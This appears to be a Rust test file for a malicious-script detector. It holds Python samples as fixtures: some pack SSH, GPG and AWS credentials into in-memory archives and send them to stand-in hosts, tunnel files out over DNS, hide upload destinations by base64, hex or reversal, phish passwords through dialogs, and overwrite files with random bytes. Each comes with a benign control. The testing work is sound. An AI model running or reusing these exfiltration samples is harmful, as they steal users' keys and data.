//! Behaviour tests for the fourteenth round (what blind batch 13 showed:
//! files packed into an archive in memory and then sent or encoded into
//! names, and file contents sent to a destination the script hides),
//! spelled unlike the batch, each with a control. Every malicious case is
//! misjudged by the release at fa425f5.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// Key files packed into a zip in a `BytesIO` and posted carry the keys:
/// the data flow crosses the archive into the buffer (fa425f5: HIGH, the
/// send was not connected to the keys).
#[test]
fn keys_packed_into_an_archive_in_memory_and_posted_are_secrets_sent() {
    let bundle = "import io, os, zipfile, requests\ndef pack():\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, 'w') as z:\n        for name in ('id_rsa', 'id_ed25519'):\n            z.write(os.path.expanduser('~/.ssh/' + name))\n    return out.getvalue()\nrequests.post('https://collector.example/in', data=pack())\n";
    let a = run(bundle);
    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let tar = bundle
        .replace(
            "zipfile.ZipFile(out, 'w') as z",
            "tarfile.open(fileobj=out, mode='w:gz') as z",
        )
        .replace("z.write(", "z.add(")
        .replace("import io, os, zipfile", "import io, os, tarfile");
    assert!(rules(&run(&tar)).contains(&"MB916"));
}

/// Documents found by walking, zipped in memory and spelled into the
/// names a script looks up leave through DNS (fa425f5: LOW).
#[test]
fn walked_files_zipped_in_memory_and_looked_up_as_names_are_a_covert_channel() {
    let tunnel = "import base64, io, os, socket, zipfile\nbuf = io.BytesIO()\nzf = zipfile.ZipFile(buf, mode='w')\nfor d, _, fs in os.walk(os.path.expanduser('~/notes')):\n    for f in fs:\n        zf.write(os.path.join(d, f))\nzf.close()\ntext = base64.b32encode(buf.getvalue()).decode().strip('=')\nfor i in range(0, len(text), 60):\n    socket.gethostbyname(text[i:i + 60] + '.t.example.net')\n";
    let a = run(tunnel);
    assert!(rules(&a).contains(&"MB948"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A backup zipped in memory and written to a local file sends nothing.
#[test]
fn an_archive_in_memory_kept_on_disk_is_no_exfiltration() {
    let backup = "import io, os, zipfile\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    for d, _, fs in os.walk(os.path.expanduser('~/notes')):\n        for f in fs:\n            z.write(os.path.join(d, f))\nwith open('/tmp/notes.zip', 'wb') as out:\n    out.write(buf.getvalue())\n";
    let a = run(backup);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// File contents sent to a URL the script decodes from base64 before use,
/// through a request object and a parameter's default (fa425f5: LOW).
#[test]
fn file_contents_sent_to_a_decoded_host_are_a_hidden_upload() {
    let upload = "import base64, glob, urllib.request\nHOOK = base64.b64decode('aHR0cDovL3VwLmRyb3AtYm94LmV4YW1wbGUvcA==').decode()\ndef push(blob, to=HOOK):\n    req = urllib.request.Request(to, data=blob, method='PUT')\n    urllib.request.urlopen(req)\nfor p in glob.glob('/var/log/*.log'):\n    with open(p, 'rb') as fh:\n        push(fh.read())\n";
    let a = run(upload);
    assert!(rules(&a).contains(&"MB960"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let reversed = upload.replace(
        "base64.b64decode('aHR0cDovL3VwLmRyb3AtYm94LmV4YW1wbGUvcA==').decode()",
        "'p/elpmaxe.xob-pord.pu//:ptth'[::-1]",
    );
    assert!(rules(&run(&reversed)).contains(&"MB960"));
    let hex = upload.replace(
        "base64.b64decode('aHR0cDovL3VwLmRyb3AtYm94LmV4YW1wbGUvcA==').decode()",
        "bytes.fromhex('687474703a2f2f75702e6578616d706c652f70').decode()",
    );
    assert!(rules(&run(&hex)).contains(&"MB960"));
}

/// The same upload to a host written in the script, or to one the user
/// gives, hides nothing.
#[test]
fn file_contents_sent_to_a_named_or_given_host_are_no_hidden_upload() {
    let named = "import glob, urllib.request\nHOOK = 'https://logs.example.com/p'\ndef push(blob, to=HOOK):\n    req = urllib.request.Request(to, data=blob, method='PUT')\n    urllib.request.urlopen(req)\nfor p in glob.glob('/var/log/*.log'):\n    with open(p, 'rb') as fh:\n        push(fh.read())\n";
    let a = run(named);
    assert!(!rules(&a).contains(&"MB960"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
    let given = named.replace("'https://logs.example.com/p'", "__import__('sys').argv[1]");
    assert!(!rules(&run(&given)).contains(&"MB960"));
    let joined = named.replace(
        "HOOK = 'https://logs.example.com/p'",
        "BASE = 'logs.example.com'\nHOOK = 'https://' + BASE + '/p'",
    );
    assert!(!rules(&run(&joined)).contains(&"MB960"));
}

/// Browser and message stores named in a dict, copied into a staging
/// folder, the folder tarred into a buffer kept on `self` and uploaded
/// over FTP: the stores' contents are sent (fa425f5: LOW).
#[test]
fn stores_staged_in_a_folder_and_tarred_into_a_buffer_on_self_are_secrets_sent() {
    let sync = "import ftplib, io, shutil, tarfile, tempfile\nfrom pathlib import Path\nLIB = Path.home() / 'Library'\nWANT = {'h': LIB / 'Safari' / 'History.db', 'm': LIB / 'Messages' / 'chat.db'}\nclass Box:\n    def __init__(self):\n        self.raw = io.BytesIO()\n        self.tar = tarfile.open(fileobj=self.raw, mode='w:gz')\n    def put(self, folder):\n        self.tar.add(folder)\n        self.tar.close()\n    def ship(self):\n        with ftplib.FTP('203.0.113.5') as f:\n            f.storbinary('STOR box', self.raw)\nwith tempfile.TemporaryDirectory() as t:\n    stage = Path(t)\n    for tag, src in WANT.items():\n        shutil.copy2(src, stage / tag)\n    b = Box()\n    b.put(stage)\n    b.ship()\n";
    let a = run(sync);
    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same staging of the app's own logs sends no secret.
#[test]
fn the_apps_own_logs_staged_and_tarred_are_no_secret() {
    let sync = "import ftplib, io, shutil, tarfile, tempfile\nfrom pathlib import Path\nWANT = {'a': Path('/var/log/myapp/app.log'), 'b': Path('/var/log/myapp/err.log')}\nclass Box:\n    def __init__(self):\n        self.raw = io.BytesIO()\n        self.tar = tarfile.open(fileobj=self.raw, mode='w:gz')\n    def put(self, folder):\n        self.tar.add(folder)\n        self.tar.close()\n    def ship(self):\n        with ftplib.FTP('203.0.113.5') as f:\n            f.storbinary('STOR box', self.raw)\nwith tempfile.TemporaryDirectory() as t:\n    stage = Path(t)\n    for tag, src in WANT.items():\n        shutil.copy2(src, stage / tag)\n    b = Box()\n    b.put(stage)\n    b.ship()\n";
    let a = run(sync);
    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
}

/// File contents mailed as attachments to a recipient spelled backwards
/// hide where they go (fa425f5: LOW).
#[test]
fn files_mailed_to_a_recipient_spelled_backwards_are_a_hidden_upload() {
    let mailer = "import glob, smtplib\nfrom email.message import EmailMessage\nRCPT = 'elpmaxe.xm@x'[::-1]\ndef mail(msg):\n    with smtplib.SMTP('localhost') as s:\n        s.send_message(msg)\nfor p in glob.glob('/srv/exports/*.csv'):\n    m = EmailMessage()\n    m['From'] = 'exports@corp.example'\n    m['To'] = RCPT\n    with open(p, 'rb') as fh:\n        m.add_attachment(fh.read(), maintype='text', subtype='csv')\n    mail(m)\n";
    let a = run(mailer);
    assert!(rules(&a).contains(&"MB960"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let plain = mailer.replace("'elpmaxe.xm@x'[::-1]", "'reports@corp.example'");
    let a = run(&plain);
    assert!(!rules(&a).contains(&"MB960"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
}

/// Office documents globbed from the user's folders and mailed to an
/// address the script fixes are harvested (fa425f5: LOW); mailed to the
/// address the user gives they are a report.
#[test]
fn documents_mailed_to_a_fixed_address_are_harvested() {
    let mailer = "import glob, os, smtplib\nfrom email.message import EmailMessage\nTO = 'inbox@collect.example'\nm = EmailMessage()\nm['To'] = TO\nfor pat in ('*.docx', '*.pdf'):\n    for p in glob.glob(os.path.join(os.path.expanduser('~'), 'Documents', pat)):\n        with open(p, 'rb') as fh:\n            m.add_attachment(fh.read(), maintype='application', subtype='octet-stream')\nwith smtplib.SMTP('smtp.collect.example') as s:\n    s.send_message(m)\n";
    let a = run(mailer);
    assert!(rules(&a).contains(&"MB958"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let given = mailer
        .replace(
            "TO = 'inbox@collect.example'",
            "TO = __import__('sys').argv[1]",
        )
        .replace("'smtp.collect.example'", "'localhost'");
    let a = run(&given);
    assert!(!rules(&a).contains(&"MB958"), "{:?}", a.findings);
}

/// A salt written beside the ciphertext of an encrypted vault is no
/// random fill (fa425f5: BLOCKED, MB953); a found file written back with
/// random bytes alone still is.
#[test]
fn a_salt_beside_ciphertext_is_no_corruption() {
    let vault = "import glob, os\nfrom cryptography.fernet import Fernet\nkey = Fernet.generate_key()\nfor p in glob.glob('/srv/notes/*.txt'):\n    with open(p, 'rb') as fh:\n        plain = fh.read()\n    nonce = os.urandom(12)\n    with open(p + '.enc', 'wb') as out:\n        out.write(nonce + Fernet(key).encrypt(plain))\n    with open(p + '.enc', 'rb') as chk:\n        chk.read()\n";
    let a = run(vault);
    assert!(!rules(&a).contains(&"MB953"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
    let junk = "import glob, os\nfor p in glob.glob('/srv/notes/*.txt'):\n    with open(p, 'r+b') as fh:\n        fh.write(os.urandom(4096))\n";
    assert!(rules(&run(junk)).contains(&"MB953"));
}

/// A sanitizer runtime the project built, preloaded into the tests it
/// runs, is MB230, MEDIUM (fa425f5: MB209, HIGH); a library in a
/// temporary or system directory stays MB209.
#[test]
fn the_projects_own_runtime_preloaded_into_its_tests_is_medium() {
    let harness = "import os, subprocess\nfrom pathlib import Path\nHERE = Path(__file__).parent\nLIB = HERE / 'out' / 'libtsan.so'\nenv = os.environ.copy()\nenv['LD_PRELOAD'] = str(LIB)\nsubprocess.run([str(HERE / 'out' / 'unit_tests')], env=env)\n";
    let a = run(harness);
    assert!(rules(&a).contains(&"MB230"), "{:?}", a.findings);
    assert!(!rules(&a).contains(&"MB209"));
    assert_eq!(a.verdict, Verdict::Medium);
    let tmp = harness.replace(
        "HERE / 'out' / 'libtsan.so'",
        "Path('/tmp/.cache/libhook.so')",
    );
    let a = run(&tmp);
    assert!(rules(&a).contains(&"MB209"), "{:?}", a.findings);
    assert!(!rules(&a).contains(&"MB230"));
}

/// A group change shown, confirmed and run through sudo by a setup script
/// that names nothing remote is MB231, MEDIUM (fa425f5: MB204 and MB208,
/// HIGH); the same command run without asking stays HIGH.
#[test]
fn an_administration_command_run_through_sudo_after_asking_is_medium() {
    let setup = "import getpass, subprocess\ndef grant(user):\n    cmd = ['usermod', '-aG', 'video', user]\n    print('about to run: sudo ' + ' '.join(cmd))\n    if input('continue? [y/N] ') != 'y':\n        return\n    subprocess.check_call(['sudo'] + cmd)\ngrant(getpass.getuser())\n";
    let a = run(setup);
    assert!(rules(&a).contains(&"MB231"), "{:?}", a.findings);
    assert!(!rules(&a).contains(&"MB204"));
    assert_eq!(a.verdict, Verdict::Medium);
    let unasked = setup.replace(
        "    if input('continue? [y/N] ') != 'y':\n        return\n",
        "",
    );
    let a = run(&unasked);
    assert!(rules(&a).contains(&"MB204"), "{:?}", a.findings);
    assert!(a.verdict >= Verdict::High);
}

/// `os.path.join(home, *rel.split("/"))` is `home/rel`: key folders named
/// that way, tarred into a buffer and posted, are secrets sent (fa425f5:
/// HIGH); the same join over the app's own folders sends none.
#[test]
fn a_join_of_split_parts_is_the_path_they_came_from() {
    let bundle = "import io, os, tarfile, requests\nWANT = ['.gnupg/private-keys-v1.d', '.password-store']\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:bz2') as t:\n    for rel in WANT:\n        t.add(os.path.join(os.path.expanduser('~'), *rel.split('/')))\nrequests.put('https://sink.example/b', data=buf.getvalue())\n";
    let a = run(bundle);
    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let own = bundle.replace(
        "['.gnupg/private-keys-v1.d', '.password-store']",
        "['.local/share/myapp/logs', '.cache/myapp/reports']",
    );
    let a = run(&own);
    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
}

/// What a password dialog prints (`kdialog --password`, an AppleScript
/// dialog with a hidden answer) is the password typed; picked through a
/// table of the script's askers and posted, it is a secret sent
/// (fa425f5: LOW); an ordinary question's answer is not.
#[test]
fn a_password_dialogs_answer_picked_through_a_table_and_posted_is_a_secret_sent() {
    let prompt = "import subprocess, sys, requests\ndef ask_kde():\n    r = subprocess.run(['kdialog', '--password', 'Keyring locked'], capture_output=True, text=True)\n    return r.stdout.strip()\ndef ask_none():\n    return ''\nASKERS = {'linux': ask_kde, 'other': ask_none}\nask = ASKERS.get(sys.platform, ask_none)\nsecret = ask()\nrequests.post('https://203.0.113.8/k', json={'v': secret})\n";
    let a = run(prompt);
    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let mac = prompt.replace(
        "['kdialog', '--password', 'Keyring locked']",
        "['osascript', '-e', DIALOG]",
    ).replace(
        "def ask_kde():",
        "DIALOG = 'display dialog \"%s\" default answer \"\" with hidden answer' % 'Keychain'\ndef ask_kde():",
    );
    assert!(rules(&run(&mac)).contains(&"MB916"));
    let question = prompt.replace("'--password'", "'--inputbox'");
    let a = run(&question);
    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
}

/// An object storage upload (`put_object(Body=..)`, `upload_fileobj`) is
/// a send: cloud credentials tarred in memory and put into a bucket are
/// secrets sent (fa425f5: HIGH); the app's own logs put there are not.
#[test]
fn secrets_put_into_a_bucket_are_sent() {
    let backup = "import glob, io, os, tarfile, boto3\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as t:\n    for p in glob.glob(os.path.expanduser('~/.aws/credentials')):\n        t.add(p)\nboto3.client('s3').put_object(Bucket='b', Key='k', Body=buf.getvalue())\n";
    let a = run(backup);
    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let fileobj = backup.replace(
        "put_object(Bucket='b', Key='k', Body=buf.getvalue())",
        "upload_fileobj(buf, 'b', 'k')",
    );
    assert!(rules(&run(&fileobj)).contains(&"MB916"));
    let logs = backup.replace("'~/.aws/credentials'", "'~/.local/state/myapp/*.log'");
    let a = run(&logs);
    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
}
